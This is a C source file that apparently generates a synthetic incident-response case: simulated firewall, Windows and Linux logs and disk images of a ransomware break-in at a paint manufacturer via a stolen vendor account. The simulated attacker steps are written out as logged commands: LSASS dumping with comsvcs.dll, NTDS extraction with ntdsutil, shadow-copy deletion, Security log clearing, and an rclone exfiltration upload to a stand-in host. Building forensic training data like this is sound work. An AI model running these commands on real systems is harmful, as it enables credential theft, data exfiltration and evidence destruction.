/* The first case: a paint maker, a maintenance account stolen, shares packed and uploaded, and part
 * of the files named with their hashes in a leak listing. */
#include "demo/cases.h"
#include "demo/contacts.h"
#include "demo/linux_logs.h"
#include "demo/paint_papers.h"
#include "demo/site.h"

#define MINUTE (60 * KK_SECOND)
#define HOUR (60 * MINUTE)
#define DAY (24 * HOUR)
#define SEED UINT64_C(0x7061696e)
#define WAN_IP "198.51.100.130"
#define ROBBER_IP "203.0.113.181"
#define ROBBER_COUNTRY "Netherlands"
#define ROBBER_TUNNEL "10.212.135.31"
#define ROBBER_STATION "DESKTOP-QX41"
#define STORAGE_IP "203.0.113.77"
#define LX01_IP "192.168.20.30"
#define FS02_IP "192.168.20.10"
#define AD01_IP "192.168.20.5"
#define FEB(day, hour, minute, second) kk_jst(2026, 2, day, hour, minute, second)
#define MARCH(day, hour, minute, second) kk_jst(2026, 3, day, hour, minute, second)

static const kk_demo_account vendor = {"hoshu01", 1150, true},
                             administrator = {"Administrator", 500, true},
                             okada_admin = {"okada.adm", 1162, true};

static const kk_demo_seat seats[] = {
    {"OS-PC01", "192.168.20.101", {"okada.s", 1103, false}},
    {"OS-PC02", "192.168.20.102", {"fujii.k", 1104, false}},
    {"OS-PC03", "192.168.20.103", {"maeda.y", 1105, false}},
    {"OS-PC04", "192.168.20.104", {"nishida.h", 1106, false}},
    {"OS-PC05", "192.168.20.105", {"ueda.t", 1107, false}},
    {"OS-PC06", "192.168.20.106", {"murakami.n", 1108, false}},
    {"OS-PC07", "192.168.20.107", {"kondo.m", 1109, false}},
    {"OS-PC08", "192.168.20.108", {"ishii.r", 1110, false}},
    {"OS-PC09", "192.168.20.109", {"sakai.a", 1111, false}},
    {"OS-PC10", "192.168.20.110", {"harada.j", 1112, false}},
    {"OS-PC11", "192.168.20.111", {"ono.c", 1113, false}},
    {"OS-PC12", "192.168.20.112", {"takeda.e", 1114, false}},
};
static const kk_demo_teleworker teleworkers[] = {
    {{"maeda.y", 1105, false}, "198.51.100.61", "10.212.135.11", "NOTE-03", 120},
    {{"ishii.r", 1110, false}, "198.51.100.74", "10.212.135.12", "NOTE-08", 60},
};
static const char *const servers[] = {AD01_IP, FS02_IP, LX01_IP, NULL};
static const int holidays[][2] = {{2, 11}, {2, 23}, {0, 0}};

static void live(kk_paint *s)
{
    kk_time from = kk_jst(2026, 1, 26, 0, 0, 0), to = MARCH(10, 0, 0, 0);
    kk_demo_site site = {
        .wall = s->wall,
        .controller = s->controller,
        .files = s->files,
        .files_ip = FS02_IP,
        .wan_ip = WAN_IP,
        .server_ips = servers,
        .seats = seats,
        .seat_count = sizeof seats / sizeof seats[0],
        .teleworkers = teleworkers,
        .teleworker_count = sizeof teleworkers / sizeof teleworkers[0],
        .share = "\\\\*\\share",
        .share_local = "\\??\\C:\\share",
        .backup_from_ip = FS02_IP,
        .backup_to_ip = "192.0.2.51",
        .backup_bytes = 3400000000,
        .backup_hour = 21,
        .holidays = holidays,
        .quiet_from = MARCH(6, 9, 30, 0),
        .dice = kk_dice_make(SEED, "site"),
    };
    kk_site_live(&site, from, to);
    kk_linux_daily(s->server, from, to);
}

/* The vendor's own visits: Tuesdays, early in the afternoon, from its office. */
static void maintain(kk_paint *s)
{
    for (kk_time tuesday = kk_jst(2026, 1, 27, 14, 2, 10); tuesday < FEB(24, 23, 0, 0);
         tuesday += 7 * DAY) {
        kk_time end = tuesday + 38 * MINUTE;
        kk_fortigate_knock(s->wall, tuesday - 3 * KK_SECOND, "198.51.100.88", "Japan", WAN_IP,
                           10443, true);
        kk_fortigate_tunnel(s->wall, &(kk_demo_tunnel){tuesday, end, "hoshu01", "198.51.100.88",
                                                       "10.212.135.13", 18204511, 1904412});
        kk_fortigate_flow(s->wall, &(kk_demo_flow){.start = tuesday + 40 * KK_SECOND,
                                                   .seconds = 2150,
                                                   .from_ip = "10.212.135.13",
                                                   .from_interface = "ssl.root",
                                                   .to_ip = FS02_IP,
                                                   .to_interface = "internal",
                                                   .port = 3389,
                                                   .protocol = 6,
                                                   .policy = 12,
                                                   .service = "RDP",
                                                   .user = "hoshu01",
                                                   .sent = 1810220,
                                                   .received = 17404100});
        kk_logon desk = kk_windows_desktop(s->files, tuesday + 50 * KK_SECOND, &vendor,
                                           "10.212.135.13", "HOSHU-PC2");
        kk_windows_process(s->files, tuesday + 5 * MINUTE, &desk, "C:\\Windows\\System32\\mmc.exe",
                           "mmc.exe eventvwr.msc", "C:\\Windows\\explorer.exe");
        kk_windows_desktop_end(s->files, end - MINUTE, &desk);
        kk_shell shell = kk_linux_login(s->server, tuesday + 15 * MINUTE, "svcadm", 1001, FS02_IP);
        kk_linux_sudo(s->server, tuesday + 17 * MINUTE, &shell, "/usr/bin/apt-get update");
        kk_linux_logout(s->server, tuesday + 22 * MINUTE, &shell);
    }
}

static void fill_visits(kk_paint *s)
{
    s->visits[0] = (kk_paint_visit){FEB(24, 23, 41, 12),
                                    FEB(25, 0, 37, 40),
                                    FEB(24, 23, 42, 40),
                                    FEB(25, 0, 36, 50),
                                    FS02_IP,
                                    "FS02",
                                    "hoshu01",
                                    1204118,
                                    5811004};
    s->visits[1] = (kk_paint_visit){FEB(27, 1, 12, 33),
                                    FEB(27, 4, 52, 10),
                                    FEB(27, 1, 13, 20),
                                    FEB(27, 4, 51, 2),
                                    FS02_IP,
                                    "FS02",
                                    "hoshu01",
                                    4811002,
                                    2117340};
    s->visits[2] = (kk_paint_visit){MARCH(2, 0, 55, 9),
                                    MARCH(2, 1, 47, 30),
                                    MARCH(2, 0, 56, 1),
                                    MARCH(2, 1, 46, 44),
                                    AD01_IP,
                                    "AD01",
                                    "Administrator",
                                    902331,
                                    511020};
    s->visits[3] = (kk_paint_visit){MARCH(6, 3, 20, 44),
                                    MARCH(6, 5, 10, 21),
                                    MARCH(6, 3, 21, 30),
                                    MARCH(6, 5, 9, 40),
                                    AD01_IP,
                                    "AD01",
                                    "Administrator",
                                    1377204,
                                    2904110};
}

static void enter(kk_paint *s)
{
    for (int i = 0; i < KK_PAINT_VISITS; i++) {
        const kk_paint_visit *v = &s->visits[i];
        kk_site_enter(s->wall,
                      &(kk_demo_intrusion){"hoshu01", ROBBER_IP, ROBBER_COUNTRY, ROBBER_TUNNEL,
                                           WAN_IP, v->up, v->down, v->desk, v->left, v->target_ip,
                                           v->carried_away, v->brought_in});
    }
    kk_fortigate_admin(s->wall, MARCH(6, 9, 12, 5), "admin", "192.168.20.101", "hoshu01");
}

/* ---- on the Windows servers ---- */

#define KB "C:\\ProgramData\\kb\\"
#define SHELL "C:\\Windows\\System32\\cmd.exe"
#define SYSTEM32 "C:\\Windows\\System32\\"

static void look_around(kk_paint *s)
{
    const kk_paint_visit *v = &s->visits[0];
    kk_logon desk = kk_windows_desktop(s->files, v->desk, &vendor, ROBBER_TUNNEL, ROBBER_STATION);
    kk_windows_process(s->files, v->desk + 2 * MINUTE, &desk, SYSTEM32 "whoami.exe", "whoami /priv",
                       SHELL);
    kk_windows_process(s->files, v->desk + 3 * MINUTE, &desk, SYSTEM32 "nltest.exe",
                       "nltest /domain_trusts", SHELL);
    kk_windows_process(s->files, v->desk + 9 * MINUTE, &desk, SYSTEM32 "net.exe",
                       "net view \\\\LX01", SHELL);
    kk_windows_process(
        s->files, v->desk + 24 * MINUTE, &desk, SYSTEM32 "rundll32.exe",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 676 " KB "l.dmp full", SHELL);
    kk_windows_desktop_end(s->files, v->left, &desk);
}

static void pack_and_move(kk_paint *s)
{
    const kk_paint_visit *v = &s->visits[1];
    kk_logon desk = kk_windows_desktop(s->files, v->desk, &vendor, ROBBER_TUNNEL, ROBBER_STATION);
    kk_windows_process(s->files, FEB(27, 1, 31, 5), &desk, KB "7z.exe",
                       KB "7z.exe a -mx3 -v8m " KB "s1.7z C:\\share\\営業 C:\\share\\物流 "
                          "C:\\share\\製造",
                       SHELL);
    kk_windows_process(s->files, FEB(27, 2, 4, 41), &desk, KB "7z.exe",
                       KB "7z.exe a -mx3 -v8m " KB "s2.7z C:\\share\\人事 C:\\share\\情シス",
                       SHELL);
    kk_windows_explicit(s->files, FEB(27, 2, 24, 2), &desk, "hoshu01", "LX01");
    kk_windows_process(s->files, FEB(27, 2, 26, 0), &desk, SYSTEM32 "robocopy.exe",
                       "robocopy C:\\ProgramData\\kb \\\\LX01\\work\\kb *.7z.* /R:1", SHELL);
    kk_windows_process(s->files, FEB(27, 2, 31, 40), &desk, SYSTEM32 "OpenSSH\\ssh.exe",
                       "ssh svcadm@192.168.20.30", SHELL);
    kk_windows_process(s->files, FEB(27, 4, 33, 12), &desk, SHELL,
                       "cmd.exe /c del /q C:\\ProgramData\\kb\\*.7z.*", SHELL);
    kk_windows_desktop_end(s->files, v->left, &desk);
}

static void take_the_domain(kk_paint *s)
{
    for (int i = 2; i < KK_PAINT_VISITS; i++) {
        const kk_paint_visit *v = &s->visits[i];
        kk_logon desk = kk_windows_desktop(s->controller, v->desk, &administrator, ROBBER_TUNNEL,
                                           ROBBER_STATION);
        kk_windows_process(s->controller, v->desk + 4 * MINUTE, &desk, SYSTEM32 "ntdsutil.exe",
                           "ntdsutil \"ac i ntds\" \"ifm\" \"create full C:\\ProgramData\\n\" q q",
                           SHELL);
        if (i == 3) {
            kk_time over = MARCH(6, 3, 48, 12);
            kk_windows_explicit(s->controller, over - KK_SECOND, &desk, "Administrator", "FS02");
            kk_logon far = kk_windows_desktop(s->files, over, &administrator, AD01_IP, "AD01");
            kk_windows_service(s->files, over + 6 * MINUTE, "kbsvc",
                               "C:\\ProgramData\\kb\\lk.exe -d C:\\share\\製造");
            kk_windows_process(s->files, over + 7 * MINUTE, &far, SYSTEM32 "vssadmin.exe",
                               "vssadmin delete shadows /all /quiet", SHELL);
            kk_windows_desktop_end(s->files, MARCH(6, 4, 38, 30), &far);
            kk_windows_process(s->controller, MARCH(6, 4, 41, 2), &desk, SYSTEM32 "wevtutil.exe",
                               "wevtutil cl Security", SHELL);
            kk_windows_cleared(s->controller, MARCH(6, 4, 41, 3), &desk);
        }
        kk_windows_desktop_end(s->controller, v->left, &desk);
    }
}

/* The owner's own people after the discovery. */
static void respond(kk_paint *s)
{
    kk_windows *hosts[] = {s->files, s->controller};
    for (size_t i = 0; i < 2; i++) {
        kk_time at = MARCH(6, 10 + (int)i, 5, 40);
        kk_logon desk = kk_windows_desktop(hosts[i], at, &okada_admin, "192.168.20.101", "OS-PC01");
        kk_windows_process(hosts[i], at + 4 * MINUTE, &desk,
                           "C:\\Program Files\\Windows Defender\\MpCmdRun.exe",
                           "MpCmdRun.exe -Scan -ScanType 2", SHELL);
        kk_windows_desktop_end(hosts[i], at + 4 * HOUR, &desk);
    }
    kk_shell shell = kk_linux_login(s->server, MARCH(6, 13, 2, 0), "root", 0, "192.168.20.101");
    kk_linux_logout(s->server, MARCH(6, 14, 40, 0), &shell);
}

/* ---- the disks ---- */

static uint32_t stage_noise(kk_disk *disk, kk_dice *dice, size_t size)
{
    kk_buffer out = {0};
    kk_dice_bytes(dice, kk_buffer_room(&out, size), size);
    out.len = size;
    uint32_t content = kk_disk_stage(disk, kk_buffer_slice(&out));
    kk_buffer_close(&out);
    return content;
}

static void fill_file_server(kk_paint *s)
{
    kk_dice dice = kk_dice_make(SEED, "drawings");
    kk_time moved_in = kk_jst(2023, 9, 2, 13, 0, 0);
    s->contents = KK_NEW_ARRAY(s->arena, uint32_t, s->book->file_count);
    for (size_t i = 0; i < s->book->file_count; i++) {
        const kk_contact_file *file = &s->book->files[i];
        s->contents[i] = kk_disk_stage(s->disk, file->bytes);
        kk_disk_act *act = kk_disk_put(
            s->disk, file->saved > moved_in ? file->saved : moved_in + (kk_time)i * KK_SECOND,
            kk_print(s->arena, "share/%.*s", KK_P(file->path)), s->contents[i]);
        act->born = act->modified = file->saved;
    }
    for (int i = 0; i < KK_PAINT_DRAWINGS; i++) {
        s->drawings[i] = stage_noise(s->disk, &dice, 260000 + kk_dice_below(&dice, 500000));
        kk_disk_put(s->disk, kk_jst(2024 + i % 2, 1 + i % 12, 3 + i % 20, 11, i % 60, 0),
                    kk_print(s->arena, "share/製造/配合設計/配合_%03d.dat", i + 1), s->drawings[i]);
    }
}

static kk_slice noise(kk_arena *arena, kk_dice *dice, size_t size)
{
    char *bytes = kk_take(arena, size);
    kk_dice_bytes(dice, bytes, size);
    return (kk_slice){bytes, size};
}

/* Four archive parts, s1 of three and s2 of one: made, copied away, deleted. */
static void stage_archives(kk_paint *s)
{
    static const uint32_t sizes[KK_PAINT_PARTS] = {8388608, 8388608, 4911230, 1204481};
    kk_dice dice = kk_dice_make(SEED, "archives");
    kk_disk_put(s->disk, FEB(24, 23, 58, 30), KK_S("ProgramData/kb/7z.exe"),
                stage_noise(s->disk, &dice, 1114624));
    for (int i = 0; i < KK_PAINT_PARTS; i++) {
        s->part_bytes[i] = noise(s->arena, &dice, sizes[i]);
        s->parts[i] =
            (kk_paint_part){i < 3 ? kk_print(s->arena, "s1.7z.%03d", i + 1) : KK_S("s2.7z.001"),
                            kk_disk_stage(s->disk, s->part_bytes[i]),
                            i < 3 ? FEB(27, 1, 38 + 7 * i, 20) : FEB(27, 2, 6, 2),
                            FEB(27, 2, 26 + i, 30), FEB(27, 2, 52 + 9 * i, 14)};
        kk_disk_put(s->disk, s->parts[i].made,
                    kk_print(s->arena, "ProgramData/kb/%.*s", KK_P(s->parts[i].name)),
                    s->parts[i].content);
    }
    for (int i = 0; i < KK_PAINT_PARTS; i++)
        kk_disk_delete(s->disk, FEB(27, 4, 33, 12 + i),
                       kk_print(s->arena, "ProgramData/kb/%.*s", KK_P(s->parts[i].name)));
}

/* Formulas of the plant, no personal data: what stopped production. */
static void encrypt(kk_paint *s)
{
    kk_dice dice = kk_dice_make(SEED, "encryption");
    kk_time at = MARCH(6, 3, 55, 31);
    s->first_encrypted = at;
    for (int i = 0; i < KK_PAINT_DRAWINGS; i++) {
        kk_slice path = kk_print(s->arena, "share/製造/配合設計/配合_%03d.dat", i + 1);
        kk_disk_rewrite(
            s->disk, at, path,
            stage_noise(s->disk, &dice, (size_t)s->disk->contents[s->drawings[i]].size + 256));
        kk_disk_rename(s->disk, at + KK_SECOND / 10, path,
                       kk_print(s->arena, "%.*s.kblk", KK_P(path)));
        s->last_encrypted = at;
        at += 18 * KK_SECOND + kk_dice_below(&dice, 9000) * (KK_SECOND / 1000);
    }
    kk_disk_file(s->disk, at + KK_SECOND, KK_S("share/製造/HOW_TO_RESTORE.txt"),
                 KK_S("Your files are locked and copied.\r\nDo not rename them.\r\n"));
}

static const char *const rclone_words[] = {
    "./rclone", "copy",       "/srv/work/kb",      "st:in", "--transfers",
    "2",        "--log-file", "/var/tmp/.k/r.log", "-v",    NULL};

static void upload(kk_paint *s)
{
    static const char *const fetch[] = {"curl", "-o", "/var/tmp/.k/r.zip",
                                        "https://downloads.example.net/rclone-linux-amd64.zip",
                                        NULL};
    static const char *const make[] = {"mkdir", "-p", "/var/tmp/.k", NULL};
    static const char *const unpack[] = {"unzip", "-j", "r.zip", NULL};
    static const char *const list[] = {"ls", "-la", "/srv/work/kb", NULL};
    static const char *const clean[] = {"rm", "-rf", "/srv/work/kb", "/var/tmp/.k/r.zip", NULL};
    uint64_t bytes = 0;
    kk_linux_denied(s->server, FEB(27, 2, 31, 48), "svcadm", FS02_IP);
    kk_shell shell = kk_linux_login(s->server, FEB(27, 2, 32, 2), "svcadm", 1001, FS02_IP);
    s->shell_start = shell.start;
    s->shell_end = FEB(27, 3, 52, 20);
    kk_linux_command(s->server, FEB(27, 2, 33, 10), &shell, "/usr/bin/mkdir", make);
    kk_linux_command(s->server, FEB(27, 2, 34, 0), &shell, "/usr/bin/curl", fetch);
    kk_linux_command(s->server, FEB(27, 2, 35, 22), &shell, "/usr/bin/unzip", unpack);
    kk_linux_command(s->server, FEB(27, 2, 38, 7), &shell, "/usr/bin/ls", list);
    kk_linux_command(s->server, FEB(27, 2, 44, 9), &shell, "/var/tmp/.k/rclone", rclone_words);
    kk_linux_command(s->server, FEB(27, 3, 44, 31), &shell, "/usr/bin/rm", clean);
    kk_linux_logout(s->server, s->shell_end, &shell);
    for (int i = 0; i < KK_PAINT_PARTS; i++)
        bytes += s->disk->contents[s->parts[i].content].size;
    s->uploaded = bytes;
    s->upload_start = FEB(27, 2, 44, 11);
    s->upload_seconds = 2223;
    s->upload_flow_bytes = bytes / 100 * 104;
    kk_fortigate_flow(s->wall, &(kk_demo_flow){.start = FEB(27, 2, 34, 0),
                                               .seconds = 21,
                                               .from_ip = LX01_IP,
                                               .from_interface = "internal",
                                               .to_ip = "192.0.2.140",
                                               .to_interface = "wan1",
                                               .to_country = "United States",
                                               .port = 443,
                                               .protocol = 6,
                                               .policy = 5,
                                               .service = "HTTPS",
                                               .sent = 41822,
                                               .received = 18220410});
    kk_fortigate_flow(s->wall, &(kk_demo_flow){.start = s->upload_start,
                                               .seconds = s->upload_seconds,
                                               .from_ip = LX01_IP,
                                               .from_interface = "internal",
                                               .to_ip = STORAGE_IP,
                                               .to_interface = "wan1",
                                               .to_country = "Netherlands",
                                               .port = 22,
                                               .protocol = 6,
                                               .policy = 5,
                                               .service = "SSH",
                                               .sent = s->upload_flow_bytes,
                                               .received = bytes / 60});
}

static void share_on_linux(kk_paint *s)
{
    kk_linux_samba(s->server, FEB(27, 2, 26, 1), "hoshu01", FS02_IP, "fs02", "work", "connect",
                   "work");
    kk_linux_samba(s->server, FEB(27, 2, 26, 2), "hoshu01", FS02_IP, "fs02", "work", "mkdirat",
                   "/srv/work/kb");
    for (int i = 0; i < KK_PAINT_PARTS; i++) {
        const char *path = kk_print(s->arena, "/srv/work/kb/%.*s", KK_P(s->parts[i].name)).ptr;
        kk_linux_samba(s->server, s->parts[i].copied, "hoshu01", FS02_IP, "fs02", "work",
                       "create_file", path);
        kk_linux_samba(s->server, s->parts[i].copied + 20 * KK_SECOND, "hoshu01", FS02_IP, "fs02",
                       "work", "pwrite_send", path);
        kk_linux_samba(s->server, s->parts[i].copied + 41 * KK_SECOND, "hoshu01", FS02_IP, "fs02",
                       "work", "close", path);
    }
    kk_dice dice = kk_dice_make(SEED, "samba");
    for (kk_time day = kk_jst(2026, 1, 26, 9, 0, 0); day < MARCH(6, 0, 0, 0); day += DAY) {
        for (uint32_t n = 6 + kk_dice_below(&dice, 8); n > 0; n--) {
            const kk_demo_seat *seat = &seats[kk_dice_below(&dice, 12)];
            kk_linux_samba(
                s->server, day + (kk_time)kk_dice_below(&dice, 8 * 3600) * KK_SECOND,
                seat->account.name, seat->ip, seat->name, "work", "openat",
                kk_print(s->arena, "/srv/work/検査/検査表_%02u.txt", 1 + kk_dice_below(&dice, 12))
                    .ptr);
        }
    }
}

static kk_slice rclone_log(kk_paint *s)
{
    kk_buffer out = {0};
    kk_put(&out, KK_S("2026/02/27 02:44:09 INFO  : Using config file from "
                      "\"/home/svcadm/.config/rclone/rclone.conf\"\n"));
    for (int i = 0; i < KK_PAINT_PARTS; i++) {
        kk_civil c = kk_civil_from_time(s->parts[i].sent + KK_JST_OFFSET);
        kk_putf(&out, "%04d/%02d/%02d %02d:%02d:%02d INFO  : %.*s: Copied (new)\n", c.year, c.month,
                c.day, c.hour, c.minute, c.second, KK_P(s->parts[i].name));
    }
    kk_putf(&out,
            "2026/02/27 03:21:14 INFO  : \nTransferred:   \t   %llu.%03llu MiB / %llu.%03llu MiB, "
            "100%%, 10.064 KiB/s, ETA 0s\nTransferred:            4 / 4, 100%%\n"
            "Elapsed time:      37m3.1s\n\n",
            (unsigned long long)(s->uploaded >> 20),
            (unsigned long long)((s->uploaded & 0xfffff) * 1000 >> 20),
            (unsigned long long)(s->uploaded >> 20),
            (unsigned long long)((s->uploaded & 0xfffff) * 1000 >> 20));
    kk_slice kept = kk_copy(s->arena, kk_buffer_slice(&out));
    kk_buffer_close(&out);
    return kept;
}

static void fill_linux_server(kk_paint *s)
{
    kk_disk *disk = s->linux_disk;
    kk_time built = kk_jst(2023, 6, 14, 11, 0, 0);
    kk_disk_file(disk, built, KK_S("etc/hostname"), KK_S("lx01\n"));
    kk_disk_file(disk, built, KK_S("etc/timezone"), KK_S("Asia/Tokyo\n"));
    kk_disk_file(
        disk, built, KK_S("etc/os-release"),
        KK_S("PRETTY_NAME=\"Debian GNU/Linux 11 (bullseye)\"\nID=debian\nVERSION_ID=\"11\"\n"));
    kk_disk_file(
        disk, built, KK_S("etc/passwd"),
        KK_S("root:x:0:0:root:/root:/bin/bash\nsvcadm:x:1001:1001::/home/svcadm:/bin/bash\n"));
    kk_disk_file(disk, built, KK_S("etc/samba/smb.conf"),
                 KK_S("[global]\n  workgroup = PAINT\n[work]\n  path = /srv/work\n"
                      "  vfs objects = full_audit\n  full_audit:prefix = %u|%I|%m|%S\n"
                      "  full_audit:success = connect openat create_file mkdirat pwrite_send "
                      "renameat unlinkat close\n  full_audit:facility = LOCAL7\n"));
    for (int i = 1; i <= 12; i++)
        kk_disk_file(disk, built + i * DAY, kk_print(s->arena, "srv/work/検査/検査表_%02d.txt", i),
                     kk_print(s->arena, "検査表 %02d\n粘度 %d mPa・s\n比重 1.%02d\n判定 合格\n", i,
                              900 + i * 13, 20 + i));
    for (int i = 0; i < KK_PAINT_PARTS; i++)
        kk_disk_put(disk, s->parts[i].copied,
                    kk_print(s->arena, "srv/work/kb/%.*s", KK_P(s->parts[i].name)),
                    kk_disk_stage(disk, s->part_bytes[i]));
    kk_dice dice = kk_dice_make(SEED, "rclone");
    kk_disk_put(disk, FEB(27, 2, 35, 22), KK_S("var/tmp/.k/rclone"),
                stage_noise(disk, &dice, 3100416))
        ->mode = 0755;
    kk_disk_act *conf =
        kk_disk_file(disk, FEB(27, 2, 41, 50), KK_S("home/svcadm/.config/rclone/rclone.conf"),
                     KK_S("[st]\ntype = sftp\nhost = " STORAGE_IP "\nuser = u4471\nport = 22\n"
                          "pass = 2mJq0Zr9cVwXy3T5uK8hN1bQeLsDfGaP\nshell_type = unix\n"));
    conf->mode = 0600;
    conf->uid = 1001;
    kk_disk_file(disk, FEB(27, 2, 44, 9), KK_S("var/tmp/.k/r.log"), rclone_log(s))->modified =
        FEB(27, 3, 21, 14);
    kk_linux_to_disk(s->server, disk, kk_jst(2026, 1, 26, 0, 0, 0), MARCH(9, 23, 25, 0), "svcadm");
    for (int i = 0; i < KK_PAINT_PARTS; i++)
        kk_disk_delete(disk, FEB(27, 3, 44, 31 + i),
                       kk_print(s->arena, "srv/work/kb/%.*s", KK_P(s->parts[i].name)));
}

static kk_status write_evidence(kk_paint *s)
{
    kk_slice evidence = kk_print(s->arena, "%.*s/evidence", KK_P(s->into->folder));
    kk_status status =
        kk_fortigate_save(s->wall, kk_print(s->arena, "%.*s/fortigate", KK_P(evidence)),
                          FEB(23, 0, 0, 0), s->into->fault);
    if (status == KK_OK)
        status = kk_windows_save(s->controller, kk_print(s->arena, "%.*s/AD01", KK_P(evidence)),
                                 s->into->fault);
    if (status != KK_OK)
        return status;
    kk_windows_to_disk(s->files, s->disk, MARCH(9, 23, 59, 0), MARCH(9, 23, 59, 30));
    status = kk_disk_write_ntfs(
        s->disk, &(kk_disk_image){.image = kk_print(s->arena, "%.*s/FS02.img", KK_P(evidence)).ptr,
                                  .label = "FS02",
                                  .megabytes = 128,
                                  .serial = UINT64_C(0x18b0c4d2b0c4a5f6),
                                  .made = kk_jst(2023, 9, 2, 10, 30, 0),
                                  .helper = s->into->ntfs_helper});
    if (status != KK_OK)
        return status;
    return kk_disk_write_ext4(
        s->linux_disk,
        &(kk_disk_image){.image = kk_print(s->arena, "%.*s/LX01.img", KK_P(evidence)).ptr,
                         .label = "LX01",
                         .megabytes = 96,
                         .serial = UINT64_C(0x4b1d02e97a3c5f80),
                         .made = kk_jst(2023, 6, 14, 10, 0, 0)});
}

kk_status kk_demo_paint(const kk_demo_case *into)
{
    kk_paint s = {.into = into, .arena = into->arena};
    s.wall = kk_fortigate_open(into->arena, "FGT-OSAKA", "FGT60FTK26000002", SEED);
    s.files = kk_windows_open(into->arena, "FS02.paint.example", "PAINT", SEED);
    s.controller = kk_windows_open(into->arena, "AD01.paint.example", "PAINT", SEED);
    s.server = kk_linux_open(into->arena, "lx01", SEED);
    kk_slice stage = kk_print(into->arena, "%.*s/.stage", KK_P(into->folder));
    s.disk = kk_disk_open(into->arena, stage, into->fault);
    s.linux_disk =
        kk_disk_open(into->arena, kk_print(into->arena, "%.*s2", KK_P(stage)), into->fault);
    s.book = kk_contacts_make(kk_people_open(into->arena, SEED));
    fill_visits(&s);
    live(&s);
    maintain(&s);
    enter(&s);
    look_around(&s);
    pack_and_move(&s);
    take_the_domain(&s);
    respond(&s);
    fill_file_server(&s);
    stage_archives(&s);
    encrypt(&s);
    upload(&s);
    share_on_linux(&s);
    fill_linux_server(&s);
    kk_status status = write_evidence(&s);
    kk_demo_sweep(s.linux_disk->stage);
    return status == KK_OK ? kk_paint_write_papers(&s) : status;
}
